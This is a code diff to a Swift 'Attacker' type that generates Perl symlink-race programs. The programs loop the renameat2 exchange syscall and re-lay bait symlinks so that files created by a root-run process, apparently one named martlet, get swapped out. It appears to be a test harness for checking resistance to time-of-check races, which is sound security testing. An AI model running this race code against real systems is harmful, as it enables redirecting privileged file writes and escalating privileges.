@@ -20,18 +20,30 @@ public struct Attacker: Sendable {
   public init(_ move: Move) { self.move = move }
 
   /// The program.
+  ///
+  /// A bait is a link. Where root has taken it away, or it has become something else, it is laid out again, so that the
+  /// hundredth round is attacked as the first was.
   public var program: String {
-    let call =
-      "my $nr = `uname -m` =~ /aarch64/ ? 276 : 316; "
-      + "sub swap { syscall($nr, -100, $_[0], -100, $_[1], 2) } "
+    let start = #"""
+      my $nr = `uname -m` =~ /aarch64/ ? 276 : 316;
+      sub swap { syscall($nr, -100, $_[0], -100, $_[1], 2) }
+      my ($target, $count);
+      sub lay { my $bait = $_[0]; $target //= readlink $bait; return if -l $bait;
+      rename $bait, $bait . '.' . ++$count; symlink $target, $bait }
+
+      """#
     switch move {
     case .exchange(let one, let other):
-      return call + "my ($a, $b) = ('\(one)', '\(other)'); while (1) { swap($a, $b) }"
+      return start + """
+        my ($a, $b) = ('\(one)', '\(other)'); lay($b);
+        while (1) { swap($a, $b) for 1..64; -l $a or lay($b); lstat $a or symlink $target, $a }
+        """
     case .watch(let folder, let bait):
-      return call + """
-        chdir '\(folder)' or die; my ($b, %seen) = ('\(bait)'); while (1) { opendir(my $d, '.') or die;
-        while (defined(my $e = readdir $d)) { next if $e !~ /martlet/ || $seen{$e}++; for (1..9) { swap($e, $b) } }
-        closedir $d; }
+      return start + """
+        chdir '\(folder)' or die; my ($b, %seen) = ('\(bait)'); lay($b);
+        while (1) { opendir(my $d, '.') or die; my @names = grep /martlet/, readdir $d; closedir $d;
+        my %there = map { $_ => 1 } @names; delete @seen{grep !$there{$_}, keys %seen};
+        for my $e (@names) { next if $seen{$e}++; lay($b); swap($e, $b) for 1..9 } }
         """
     }
   }
